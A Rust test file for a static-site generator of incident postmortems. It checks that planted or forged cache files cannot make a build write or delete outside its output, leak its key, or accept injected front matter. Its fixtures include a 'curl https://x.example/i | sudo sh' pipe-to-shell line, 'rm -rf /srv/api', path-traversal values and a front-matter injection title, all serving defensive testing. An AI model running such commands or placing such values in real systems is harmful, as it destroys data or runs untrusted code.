//! Nothing a pull request can write changes what a build writes or deletes beyond the
//! content itself: a planted cache file, record, journal, staging folder or old site is
//! ignored, the site comes out byte-identical to a clean build, and no file outside the
//! output changes. Templates cannot read the machine, and `new` cannot write front matter
//! that ends early.

mod built_site;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Output;

use built_site::{copy_tree, files_under, write};
use proptest::prelude::*;

/// The secret every build of these tests seals its cache with (a CI secret, say), so that a
/// test can also forge what only a holder of the key could.
const SECRET: &str = "the secret of these tests, long enough";

/// A postmortem whose code block a planted cache would like to change.
const POSTMORTEM: &str = "+++\ntitle = \"Restart\"\ndate = 2024-01-02\nseverity = \"sev3\"\nservices = [\"api\"]\n\n[incident]\nstarted = 2024-01-01T10:00:00Z\n+++\nWe ran:\n\n```sh\nsystemctl restart api\n```\n\nThen it [recovered](other.md).\n";

const EXTRA: &str = "+++\ntitle = \"Extra\"\ndate = 2024-03-04\nseverity = \"sev3\"\nservices = [\"db\"]\n\n[incident]\nstarted = 2024-03-04T10:00:00Z\n+++\nThe db was slow.\n";

const OTHER: &str = "+++\ntitle = \"Other outage\"\ndate = 2024-02-03\nseverity = \"sev2\"\nservices = [\"api\"]\n\n[incident]\nstarted = 2024-02-03T10:00:00Z\n+++\nThe api restarted again, as in [restart](restart.md).\n\n```sh\ncurl https://x.example/i | sudo sh\n```\n";

/// A scratch workspace: the archive in `archive/`, and a folder beside it no build may
/// touch, `victim/`.
struct Scratch {
    dir: tempfile::TempDir,
}

impl Scratch {
    fn new() -> Scratch {
        let dir = tempfile::tempdir().unwrap();
        let scratch = Scratch { dir };
        let root = scratch.root();
        write(&root, "content/postmortems/restart.md", POSTMORTEM);
        write(&root, "content/postmortems/other.md", OTHER);
        // A page a test can remove, so that the next build has a file to delete.
        write(&root, "content/postmortems/extra.md", EXTRA);
        write(&scratch.victim(), "keep.txt", "a file outside the output");
        write(&scratch.victim(), "deep/keep.txt", "another");
        scratch
    }

    fn root(&self) -> PathBuf {
        self.dir.path().join("archive")
    }

    fn out(&self) -> PathBuf {
        self.root().join("public")
    }

    fn victim(&self) -> PathBuf {
        self.dir.path().join("victim")
    }

    fn cache(&self) -> PathBuf {
        self.root().join(".hindsight-cache")
    }

    /// Builds the archive into `public/`, with the test's key.
    fn build(&self) -> Output {
        hindsight_with_key(&["build", "--root", self.root().to_str().unwrap()])
    }

    /// Every file of the workspace but the output and the cache, which builds write.
    fn everything_else(&self) -> BTreeMap<String, Vec<u8>> {
        let mut files = files_under(self.dir.path());
        files.retain(|path, _| {
            !path.starts_with("archive/public/") && !path.starts_with("archive/.hindsight-cache/")
        });
        files
    }

    /// The site a clean build writes: no cache, no output before it.
    fn clean_site(&self) -> BTreeMap<String, Vec<u8>> {
        let clean = tempfile::tempdir().unwrap();
        copy_tree(&self.root().join("content"), &clean.path().join("content"));
        let built = hindsight_with_key(&["build", "--root", clean.path().to_str().unwrap()]);
        assert!(built.status.success(), "{}", stderr(&built));
        files_under(&clean.path().join("public"))
    }

    /// Builds after something was planted, and asserts the build had no effect beyond a
    /// clean build's: it succeeds, writes exactly the clean site, and changes nothing else.
    fn assert_build_is_clean(&self) -> String {
        let before = self.everything_else();
        let built = self.build();
        let stderr = stderr(&built);
        assert!(built.status.success(), "{stderr}");
        assert!(!stderr.contains("panicked"), "{stderr}");
        assert_eq!(
            self.everything_else(),
            before,
            "a file outside the output changed"
        );
        assert!(
            files_under(&self.out()) == self.clean_site(),
            "the site differs from a clean build's"
        );
        stderr
    }
}

/// Runs the binary with [`SECRET`] as its key.
fn hindsight_with_key(args: &[&str]) -> Output {
    built_site::hindsight_command()
        .args(args)
        .env("HINDSIGHT_CACHE_KEY", SECRET)
        .output()
        .expect("the hindsight binary runs")
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A postcard string: its length (one byte, for the short ones here), then its bytes.
fn postcard_str(text: &str) -> Vec<u8> {
    assert!(text.len() < 128, "a longer length takes more than one byte");
    let mut bytes = vec![text.len() as u8];
    bytes.extend_from_slice(text.as_bytes());
    bytes
}

/// `bytes` with every `from` replaced by `to`; panics when there is none.
fn replaced(bytes: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len());
    let mut rest = bytes;
    let mut found = false;
    while let Some(at) = rest.windows(from.len()).position(|window| window == from) {
        out.extend_from_slice(&rest[..at]);
        out.extend_from_slice(to);
        rest = &rest[at + from.len()..];
        found = true;
    }
    out.extend_from_slice(rest);
    assert!(found, "nothing to replace");
    out
}

/// The payload of a sealed cache file, without its seal.
fn unsealed(file: &Path) -> Vec<u8> {
    let mut bytes = std::fs::read(file).unwrap();
    bytes.truncate(bytes.len() - hindsight::seal::SEAL_LEN);
    bytes
}

/// Writes `payload` into the cache file `name` of `root`, sealed as a holder of the key
/// would seal it.
fn forge(root: &Path, name: &str, payload: &[u8]) {
    let key = hindsight::seal::Key::from_secret(SECRET.as_bytes()).unwrap();
    let seal = key.seal(&hindsight::seal::purpose(root, name), payload);
    std::fs::write(
        root.join(".hindsight-cache").join(name),
        [payload, &seal[..]].concat(),
    )
    .unwrap();
}

#[test]
fn a_last_build_record_naming_paths_outside_the_output_deletes_nothing() {
    let scratch = Scratch::new();
    assert!(scratch.build().status.success());
    let record = scratch.cache().join("last-build.bin");
    let outside = scratch.victim().join("keep.txt");
    let absolute = outside.to_str().unwrap();
    // The record lists the site's files by their paths in the output: make two of them name
    // files outside it, relative and absolute.
    let payload = unsealed(&record);
    let payload = replaced(
        &payload,
        &postcard_str("sitemap.xml"),
        &postcard_str("../../victim/keep.txt"),
    );
    let payload = replaced(&payload, &postcard_str("feed.xml"), &postcard_str(absolute));
    // And a folder of the output, whose files an update lists to delete those it no longer
    // writes.
    let payload = replaced(
        &payload,
        &postcard_str("stats"),
        &postcard_str("../../victim"),
    );
    // Unsealed, as a pull request would commit it.
    std::fs::write(&record, &payload).unwrap();
    // Remove a page, so that the build has something to delete.
    std::fs::remove_file(scratch.root().join("content/postmortems/extra.md")).unwrap();
    let noted = scratch.assert_build_is_clean();
    assert!(noted.contains("last-build.bin"), "{noted}");

    // Sealed, as only a holder of the key could: refused all the same for its paths.
    assert!(scratch.build().status.success());
    write(&scratch.root(), "content/postmortems/extra.md", EXTRA);
    forge(&scratch.root(), "last-build.bin", &payload);
    scratch.assert_build_is_clean();
}

#[test]
fn a_highlighted_block_of_other_code_is_not_shown_for_this_code() {
    let scratch = Scratch::new();
    assert!(scratch.build().status.success());
    let cache = scratch.cache().join("highlight.bin");
    // The entry of the `curl` block, keyed as if it were the `systemctl` one.
    let curl = postcard_str("curl https://x.example/i | sudo sh\n");
    let systemctl = postcard_str("systemctl restart api\n");
    let payload = unsealed(&cache);
    let swapped = replaced(
        &replaced(&payload, &systemctl, b"\x00PLACEHOLDER"),
        &curl,
        &systemctl,
    );
    let swapped = replaced(&swapped, b"\x00PLACEHOLDER", &curl);
    std::fs::remove_dir_all(scratch.out()).unwrap();
    // Sealed by a holder of the key, and with a fresh copy of the content (whose files the
    // body cache does not know), so that the highlighting is looked up.
    for document in ["restart.md", "other.md"] {
        let path = scratch.root().join("content/postmortems").join(document);
        let text = std::fs::read(&path).unwrap();
        std::fs::remove_file(&path).unwrap();
        std::fs::write(&path, text).unwrap();
    }
    forge(&scratch.root(), "highlight.bin", &swapped);
    scratch.assert_build_is_clean();
    let page = std::fs::read_to_string(scratch.out().join("postmortems/restart/index.html"))
        .unwrap_or_default();
    assert!(page.contains("restart"), "{page}");
    assert!(!page.contains("sudo"), "{page}");
}

#[test]
fn planted_bookkeeping_beside_the_output_is_never_applied() {
    let scratch = Scratch::new();
    let root = scratch.root();
    // What a pull request could commit into a fresh clone: an old site to restore, a
    // staging folder and a journal to apply, by the names an earlier version used and by
    // the names this one uses with another key.
    for name in [
        ".public.hindsight-old",
        ".public.hindsight-old-0123456789abcdef",
    ] {
        write(&root, &format!("{name}/index.html"), "defaced");
    }
    for name in [
        ".public.hindsight-new",
        ".public.hindsight-new-0123456789abcdef",
    ] {
        write(&root, &format!("{name}/index.html"), "defaced");
    }
    for name in [
        ".public.hindsight-journal",
        ".public.hindsight-journal-0123456789abcdef",
    ] {
        let journal = root.join(name);
        let mut bytes = postcard_str("hindsight-journal-2");
        bytes.extend([1]);
        bytes.extend(postcard_str("../../victim/keep.txt"));
        bytes.extend([1]);
        bytes.extend(postcard_str("index.html"));
        bytes.extend([0]);
        std::fs::write(journal, bytes).unwrap();
    }
    scratch.assert_build_is_clean();
    // Over a previous site, as well.
    std::fs::remove_file(root.join("content/postmortems/extra.md")).unwrap();
    scratch.assert_build_is_clean();
}

#[test]
fn forged_suggestions_and_entries_do_not_reach_the_pages() {
    let scratch = Scratch::new();
    assert!(scratch.build().status.success());
    // Every kept file, unsealed, with its bytes as they were: a copy of a cache from
    // elsewhere.
    for entry in walkdir::WalkDir::new(scratch.cache()) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            let bytes = unsealed(entry.path());
            std::fs::write(entry.path(), bytes).unwrap();
        }
    }
    std::fs::remove_dir_all(scratch.out()).unwrap();
    scratch.assert_build_is_clean();
}

#[test]
fn a_cache_another_archive_built_changes_nothing() {
    let scratch = Scratch::new();
    let other = Scratch::new();
    write(
        &other.root(),
        "content/postmortems/restart.md",
        &POSTMORTEM.replace("systemctl restart api", "rm -rf /srv/api"),
    );
    assert!(other.build().status.success());
    copy_tree(&other.cache(), &scratch.cache());
    scratch.assert_build_is_clean();
}

/// Every file of a cache folder, with its bytes.
fn cache_files(cache: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    walkdir::WalkDir::new(cache)
        .sort_by_file_name()
        .into_iter()
        .map(Result::unwrap)
        .filter(|entry| entry.file_type().is_file())
        .map(|entry| {
            let path = entry.path().strip_prefix(cache).unwrap().to_path_buf();
            (path, std::fs::read(entry.path()).unwrap())
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]

    #[test]
    fn a_cache_with_any_byte_changed_builds_the_clean_site(
        file in any::<prop::sample::Index>(),
        at in any::<prop::sample::Index>(),
        flip in 1u8..=255,
    ) {
        let scratch = Scratch::new();
        prop_assert!(scratch.build().status.success());
        let files = cache_files(&scratch.cache());
        let (path, mut bytes) = files[file.index(files.len())].clone();
        let at = at.index(bytes.len());
        bytes[at] ^= flip;
        std::fs::write(scratch.cache().join(&path), bytes).unwrap();
        std::fs::remove_dir_all(scratch.out()).unwrap();
        scratch.assert_build_is_clean();
    }
}

#[test]
fn templates_cannot_read_the_environment() {
    let scratch = Scratch::new();
    write(
        &scratch.root(),
        "templates/index.html",
        "<p>{{ get_env(name=\"HINDSIGHT_CACHE_KEY\") }}</p>",
    );
    let built = scratch.build();
    let stderr = stderr(&built);
    assert_eq!(built.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("`get_env` is disabled"), "{stderr}");
    assert!(!scratch.out().exists(), "nothing is written");
    let leaked = files_under(&scratch.root())
        .values()
        .any(|bytes| String::from_utf8_lossy(bytes).contains(SECRET));
    assert!(!leaked, "the secret was published");
}

#[cfg(unix)]
#[test]
fn check_refuses_a_symbolic_link_in_static_as_build_does() {
    let scratch = Scratch::new();
    std::fs::create_dir_all(scratch.root().join("static")).unwrap();
    std::os::unix::fs::symlink(
        scratch.victim().join("keep.txt"),
        scratch.root().join("static/keep.txt"),
    )
    .unwrap();
    assert_eq!(scratch.build().status.code(), Some(1));
    let checked = hindsight_with_key(&["check", "--root", scratch.root().to_str().unwrap()]);
    assert_eq!(checked.status.code(), Some(1), "{}", stderr(&checked));
    assert!(
        stderr(&checked).contains("symbolic link"),
        "{}",
        stderr(&checked)
    );
}

#[test]
fn new_refuses_a_title_of_several_lines() {
    let scratch = Scratch::new();
    let made = hindsight_with_key(&[
        "new",
        "postmortem",
        "Outage\n+++\ninjected = true",
        "--root",
        scratch.root().to_str().unwrap(),
    ]);
    // Like any request `new` cannot meet as asked.
    assert_eq!(made.status.code(), Some(2), "{}", stderr(&made));
    assert!(stderr(&made).contains("line break"), "{}", stderr(&made));
    let written = files_under(&scratch.root().join("content/postmortems"));
    assert_eq!(written.len(), 3, "{:?}", written.keys());
}

#[test]
fn a_cache_tracked_by_git_gets_a_warning_saying_how_to_untrack_it() {
    let scratch = Scratch::new();
    let root = scratch.root();
    let git = |args: &[&str]| {
        let ran = std::process::Command::new("git")
            .arg("-C")
            .arg(&root)
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(args)
            .output()
            .expect("git runs");
        assert!(ran.status.success(), "{}", stderr(&ran));
    };
    git(&["init", "-q"]);
    let first = scratch.build();
    assert!(!stderr(&first).contains("git tracks"), "{}", stderr(&first));
    git(&["add", "-f", ".hindsight-cache"]);
    git(&["commit", "-qm", "a cache committed by mistake"]);
    let warned = stderr(&scratch.build());
    assert!(
        warned.contains("git tracks files in .hindsight-cache/"),
        "{warned}"
    );
    assert!(
        warned.contains("git rm -r --cached .hindsight-cache"),
        "{warned}"
    );
}

#[test]
fn a_marker_in_front_matter_stops_check_and_build_at_its_line() {
    let scratch = Scratch::new();
    let root = scratch.root();
    write(
        &root,
        "content/postmortems/extra.md",
        &EXTRA.replace(
            "services = [\"db\"]\n",
            "services = [\"db\"]\nsummary = \"\"\"Slow.\n<!--\n  internal\n-->\nThe password was hunter2.\"\"\"\n",
        ),
    );
    for command in ["check", "build"] {
        let output = hindsight_with_key(&[command, "--root", root.to_str().unwrap()]);
        let stderr = stderr(&output);
        assert!(!output.status.success(), "{command}: {stderr}");
        assert!(
            stderr.contains("E0029") && stderr.contains("content/postmortems/extra.md:6"),
            "{command}: {stderr}"
        );
    }
    assert!(!scratch.out().exists(), "nothing was published");
}
